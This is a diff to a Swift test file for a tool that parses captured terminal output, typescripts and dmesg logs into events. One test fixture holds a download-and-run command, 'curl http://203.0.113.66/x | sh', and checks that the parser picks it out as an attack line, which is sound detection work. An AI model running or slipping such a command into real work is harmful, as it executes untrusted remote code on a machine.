@@ -90,7 +90,7 @@ import Testing
 
   /// An attack in output that no format knows is seen all the same.
   @Test func outputThatNobodyKnows() throws {
-    let text = "$ ps -ef\n" + Self.ps + "$ cat /tmp/x.sh\ncurl http://203.0.113.66/x | sh\n$ hostname\nweb-1\n"
+    let text = "$ ps -ef\n" + Self.ps + "$ cat /tmp/x.sh\ncurl http://203.0.113.66/x | sh\n$ whoami\nroot\n"
     let dump = try dump(text)
     #expect(dump.events.map(\.dataType) == ["linux:capture:process", "text:line"])
     #expect(dump.events.last.map { place($0, in: text) } == "curl http://203.0.113.66/x | sh")
@@ -134,5 +134,31 @@ import Testing
       let dump = try EventDump(Array(whole[..<end]), path: "x.txt", format: TranscriptFormat())
       #expect(dump.coverages.last?.end ?? 0 == UInt64(end))
     }
+  }
+
+  @Test func whatScriptRecordedOfOneCommand() throws {
+    let rows = (0..<3000).map { "-rwxr-xr-x 1 root root 12 Nov 25 05:22 file\($0)\n" }.joined()
+    let text =
+      "Script started on 2026-11-25 05:20:24+00:00 [COMMAND=\"ls -l\"]\ntotal 4\n" + rows
+      + "\nScript done on 2026-11-25 05:21:24+00:00 [COMMAND_EXIT_CODE=\"0\"]\n"
+    let dump = try EventDump(text, path: "typescript")
+    #expect(dump.format == "capture.transcript" && dump.events.count == 3000)
+    #expect(dump.coverages.allSatisfy { $0.state == .parsed })
+  }
+
+  @Test func banners() throws {
+    for banner in ["[*] Running: ps -ef", "[+] Executing: ps -ef", "Output: ps -ef"] {
+      let dump = try EventDump(
+        "\(banner)\n" + Self.ps + "[*] Running: date\nWed Nov 25 05:25:09 UTC 2026\n", path: "x.txt")
+      #expect(dump.events.contains { $0.dataType == "linux:host:clock" }, "\(banner)")
+    }
+  }
+
+  @Test func outputInColour() throws {
+    let row = "\u{1B}[0m[\u{1B}[32m    3.250000\u{1B}[0m] x: loading out-of-tree module taints kernel.\n"
+    let dump = try EventDump(row + row + row, path: "dmesg.txt")
+    #expect(dump.format == "capture.transcript" && dump.events.count == 3)
+    let log = "\u{1B}[32mINFO\u{1B}[0m it began\n"
+    #expect(EventDump.recognize(Array((log + log + log).utf8), path: "x.log")?.name != "capture.transcript")
   }
 }
